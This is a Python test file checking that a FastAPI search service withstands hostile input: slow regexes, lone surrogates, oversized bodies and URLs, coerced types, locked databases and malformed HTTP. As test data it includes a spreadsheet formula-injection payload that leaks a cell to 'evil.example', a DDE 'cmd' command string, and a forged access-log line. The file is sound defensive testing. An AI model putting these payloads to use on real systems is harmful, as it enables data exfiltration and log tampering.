"""Hostile input, each case as it was reproduced: nothing a client sends may freeze the service,
give a 5xx or a non-JSON error, lose stored queries or forge a log line."""

import json
import logging
import socket
import sqlite3
import threading
from concurrent.futures import ThreadPoolExecutor

import pytest
import uvicorn
from fastapi.testclient import TestClient
from typer.testing import CliRunner

import kb.engine
from kb.cli import app as cli
from kb.config import Settings
from kb.tickets import _IDENT, key_sentences
from service.access_log import RedactingFilter
from service.app import create_app
from service.http import HEAD_ALLOWANCE, JSONErrorsH11Protocol, _httptools_protocol
from tests.checks import assert_error

LETTERS = "abcdefghijklmnopqrstuvwxyz" * 769  # 19,994 letters (the cap is 20,000), no digit


# (a) a long ticket without digits froze the service: quadratic regex, run on the event loop.

def test_a_ticket_of_letters_is_read_in_linear_time():
    assert _IDENT.findall(LETTERS) == []
    assert _IDENT.findall("see KB5034441 and 0x800CCC0E, v6.2.1") == ["KB5034441", "0x800CCC0E",
                                                                      "v6.2.1"]
    assert key_sentences("vpn", LETTERS)


def test_other_requests_are_answered_while_a_ticket_is_read(client, monkeypatch):
    entered, released, answered_meanwhile = threading.Event(), threading.Event(), []
    real = kb.engine.begin_ticket

    def slow(*args, **kwargs):
        entered.set()
        # On the event loop this would block every other request until the wait timed out.
        answered_meanwhile.append(released.wait(30))
        return real(*args, **kwargs)

    monkeypatch.setattr(kb.engine, "begin_ticket", slow)
    with ThreadPoolExecutor(1) as pool:
        ticket = pool.submit(client.post, "/suggest", json={
            "ticket_id": "T-1", "subject": "VPN", "description": LETTERS})
        assert entered.wait(30)
        assert client.post("/search", json={"query": "vpn 809"}).status_code == 200
        assert client.get("/healthz").status_code == 200
        released.set()
        assert ticket.result().status_code == 200
    assert answered_meanwhile == [True]


# (b) lone surrogates gave a 500 (query, subject, description) or lost the log's batch (filters).

@pytest.mark.parametrize(("path", "payload"), [
    ("/search", {"query": "vpn \ud800"}),
    ("/search", {"query": "vpn", "filters": {"product": "\udfff"}}),
    ("/search", {"query": "vpn", "filters": {"tags": ["vpn", "x\ud83d"]}}),
    ("/suggest", {"ticket_id": "T-1", "subject": "vpn \ud800", "description": ""}),
    ("/suggest", {"ticket_id": "T-1", "subject": "vpn", "description": "no \udc00 way"}),
    ("/suggest", {"ticket_id": "T-\ud800", "subject": "vpn"}),
    ("/search", {"query": "vpn", "filters": {"\ud800": "x"}}),
])
def test_lone_surrogates_are_refused(client, path, payload):
    body = json.dumps(payload)  # ASCII JSON: "\ud800" as an escape, as clients send it
    r = client.post(path, content=body, headers={"content-type": "application/json"})
    assert_error(r, 422, "invalid_request")
    assert client.post("/search", json={"query": "vpn"}).status_code == 200  # connection fine


# A row the store cannot keep is dropped alone: tests/test_storage.py (the lone surrogate case).


# (c) no size limit: a 10 MB body of a million tags was parsed for 9 s.

def test_a_huge_body_is_refused_before_it_is_parsed(client):
    body = json.dumps({"query": "vpn", "filters": {"tags": ["t"] * 1_000_000}})
    assert_error(client.post("/search", content=body,
                             headers={"content-type": "application/json"}), 413,
                 "request_too_large")


def test_a_huge_chunked_body_is_refused_as_it_arrives(client):
    def chunks():
        yield b'{"query": "vpn", "filters": {"tags": ['
        for _ in range(20000):
            yield b'"aaaaaaaaaaaaaaaaaaaa",'
        yield b'"b"]}}'

    r = client.post("/search", content=chunks(), headers={"content-type": "application/json"})
    assert_error(r, 413, "request_too_large")


@pytest.mark.parametrize(("path", "payload"), [
    ("/search", {"query": "vpn", "filters": {"tags": ["t"] * 51}}),
    ("/search", {"query": "vpn", "filters": {"tags": ["t" * 201]}}),
    ("/search", {"query": "vpn", "filters": {"product": "p" * 201}}),
    ("/search", {"query": "vpn", "filters": {"type": ["faq"] * 51}}),
    ("/suggest", {"ticket_id": "T" * 201, "subject": "vpn"}),
    ("/feedback", {"query_id": "q", "article_id": "a" * 201, "helpful": True}),
])
def test_lists_and_identifiers_are_capped(client, path, payload):
    assert_error(client.post(path, json=payload), 422, "invalid_request")


def test_the_caps_are_settings(tmp_path, index_copy, real_embedder):
    settings = Settings(index=index_copy, gap_db=tmp_path / "g.sqlite3", max_list_items=2,
                        max_field_chars=12, max_body_bytes=2048, max_url_chars=300)
    with TestClient(create_app(settings, real_embedder)) as c:
        assert c.post("/search", json={"query": "vpn", "filters": {"tags": ["a", "b"]}}
                      ).status_code == 200
        r = c.post("/search", json={"query": "vpn", "filters": {"tags": ["a", "b", "c"]}})
        assert_error(r, 422, "invalid_request")
        assert r.json()["error"]["details"][0]["loc"] == ["body", "filters", "tags"]
        assert_error(c.post("/suggest", json={"ticket_id": "T" * 13, "subject": "vpn"}), 422,
                     "invalid_request")
        assert_error(c.post("/search", json={"query": "vpn " * 600}), 413, "request_too_large")
        assert_error(c.get("/search", params={"q": "v" * 300}), 414, "uri_too_long")
        assert c.get("/search", params={"q": "vpn"}).status_code == 200


def test_an_over_long_url_is_a_json_414(client):
    assert_error(client.get("/search", params={"q": "x" * 9000}), 414, "uri_too_long")


# (d) types were coerced.

@pytest.mark.parametrize(("path", "payload"), [
    ("/search", {"query": "vpn", "k": "5"}),
    ("/search", {"query": "vpn", "k": True}),
    ("/search", {"query": "vpn", "k": 5.0}),
    ("/search", {"query": 809}),
    ("/search", {"query": "vpn", "filters": {"tags": "vpn"}}),
    ("/suggest", {"ticket_id": 1001, "subject": "vpn"}),
    ("/suggest", {"ticket_id": "T-1", "subject": "vpn", "k": "3"}),
    ("/feedback", {"query_id": "q", "article_id": "vpn-error-809", "helpful": "yes"}),
    ("/feedback", {"query_id": "q", "article_id": "vpn-error-809", "helpful": 1}),
])
def test_types_are_strict(client, path, payload):
    assert_error(client.post(path, json=payload), 422, "invalid_request")


# (e) CSV export wrote =HYPERLINK(…) as is.

def test_gap_csv_neutralises_formulas(client):
    for query in ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                  "@SUM(1+1)*cmd", "-2+3+cmd"):
        assert client.post("/search", json={"query": query}).status_code == 200
    text = client.get("/gaps", params={"format": "csv"}).text
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c[1:2] != "")
                and not c.lstrip("-").isdigit()]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    settings = client.app.state.settings
    client.app.state.engine.log.flush()
    result = CliRunner().invoke(cli, ["gaps", "--format", "csv", "--index", str(settings.index)],
                                env={"KB_GAP_DB": str(settings.gap_path)})
    assert result.exit_code == 0 and "'=HYPERLINK(" in result.output
    assert not [line for line in result.output.splitlines() if line.startswith(("=", "+", "@"))]


# (f) the access-log redaction turned %0A into a real newline.

def test_access_log_cannot_forge_lines():
    target = "/search?q=vpn%0A127.0.0.1:1 - \"GET /admin/reload HTTP/1.1\" 200%0D%1B[2J%E2%80%A8"
    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1,
                               '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5000", "GET", target, "1.1", 200), None)
    assert RedactingFilter().filter(record)
    line = record.getMessage()
    assert "\n" not in line and "\r" not in line and "\x1b" not in line and "\u2028" not in line
    assert "%0A" in line and "%0D" in line and "%1B" in line


# (g) with the database locked, /feedback hung for 88 s and then answered 500.

def test_a_locked_log_answers_503_promptly_and_searching_goes_on(settings, real_embedder,
                                                                 monkeypatch):
    settings = settings.model_copy(update={"db_timeout": 0.3})
    with TestClient(create_app(settings, real_embedder)) as c:
        qid = c.post("/search", json={"query": "forgot password"}).json()["query_id"]
        c.app.state.engine.log.flush()
        blocker = sqlite3.connect(settings.gap_path, isolation_level=None)
        blocker.execute("BEGIN EXCLUSIVE")
        try:
            r = c.post("/feedback", json={"query_id": qid, "article_id": "password-reset-en",
                                          "helpful": True})
            assert_error(r, 503, "storage_busy")
            assert int(r.headers["retry-after"]) >= 1
            assert c.post("/search", json={"query": "vpn 809"}).status_code == 200
            assert_error(c.post("/feedback", json={"query_id": qid, "helpful": True,
                                                   "article_id": "password-reset-en"}),
                         503, "storage_busy")
            assert c.get("/healthz").status_code == 200
        finally:
            blocker.execute("ROLLBACK")
            blocker.close()
        assert c.post("/feedback", json={"query_id": qid, "article_id": "password-reset-en",
                                         "helpful": True}).status_code == 200
        assert c.app.state.engine.log.count() == 2  # the search made while locked is stored


# (h) an over-long URL got uvicorn's plain-text 400: the server's own errors are JSON too.

PROTOCOLS = [JSONErrorsH11Protocol] + ([p] if (p := _httptools_protocol()) else [])


@pytest.fixture(scope="module", params=PROTOCOLS, ids=lambda p: p.__name__)
def server(request, tmp_path_factory, fixture_index, real_embedder):
    import shutil

    root = tmp_path_factory.mktemp("served")
    shutil.copytree(fixture_index, root / "index")
    settings = Settings(index=root / "index", gap_db=root / "g.sqlite3", reload_interval=0,
                        accept_builds=False)
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    config = uvicorn.Config(create_app(settings, real_embedder), http=request.param,
                            h11_max_incomplete_event_size=settings.max_url_chars + HEAD_ALLOWANCE,
                            log_level="warning", timeout_graceful_shutdown=5)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    for _ in range(600):
        if server.started:
            break
        threading.Event().wait(0.05)
    yield sock.getsockname(), request.param
    server.should_exit = True  # connections a test left open are closed after 5 s
    thread.join(30)
    assert not thread.is_alive(), "the service did not stop"


def raw(address, data: bytes) -> tuple[int, dict, bytes]:
    with socket.create_connection(address, timeout=20) as conn:
        conn.sendall(data)
        chunks = []
        while True:
            try:
                chunk = conn.recv(65536)
            except ConnectionResetError:
                break
            if not chunk:
                break
            chunks.append(chunk)
            head, _, body = b"".join(chunks).partition(b"\r\n\r\n")
            headers = dict(line.split(b": ", 1) for line in head.split(b"\r\n")[1:] if b": " in line)
            if b"content-length" in headers and len(body) >= int(headers[b"content-length"]):
                break
    head, _, body = b"".join(chunks).partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1])
    headers = {k.lower(): v for k, v in headers.items()}
    return status, headers, body


def assert_json_error(status_headers_body, status, code):
    got, headers, body = status_headers_body
    assert got == status, body
    assert headers[b"content-type"].startswith(b"application/json")
    assert json.loads(body)["error"]["code"] == code


def test_a_long_url_reaches_the_app_and_gets_a_json_414(server):
    address, _ = server
    request = b"GET /search?q=" + b"x" * 20000 + b" HTTP/1.1\r\nHost: t\r\n\r\n"
    assert_json_error(raw(address, request), 414, "uri_too_long")


def test_a_request_the_server_cannot_parse_gets_a_json_error(server):
    address, _ = server
    assert_json_error(raw(address, b"NOT HTTP AT ALL\r\n\r\n"), 400, "malformed_http")


def test_a_head_longer_than_h11_buffers_gets_a_json_error(server):
    address, _ = server
    # A head still incomplete when h11's buffer is full (a complete one is parsed whole).
    request = b"GET /search?q=" + b"x" * (8192 + HEAD_ALLOWANCE + 10)
    assert_json_error(raw(address, request), 431, "request_head_too_large")


def test_many_headers_past_the_limit_get_a_json_431(server):
    address, _ = server
    headers = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"y" * 1000) for i in range(100))
    request = b"GET /healthz HTTP/1.1\r\nHost: t\r\n" + headers  # still incomplete
    assert_json_error(raw(address, request), 431, "request_head_too_large")


def test_a_head_request_gets_the_headers_of_get_and_no_body(server):
    address, _ = server
    status, headers, body = raw(address, b"HEAD /healthz HTTP/1.1\r\nHost: t\r\n"
                                b"Connection: close\r\n\r\n")
    assert status == 200 and headers[b"content-type"] == b"application/json"
    assert int(headers[b"content-length"]) > 0 and body == b""


def test_a_head_within_the_limit_is_served(server):
    address, _ = server
    headers = b"".join(b"X-Pad-%d: %s\r\n" % (i, b"y" * 1000) for i in range(20))
    status, _, body = raw(address, b"GET /healthz HTTP/1.1\r\nHost: t\r\n" + headers
                          + b"Connection: close\r\n\r\n")
    assert status == 200, body
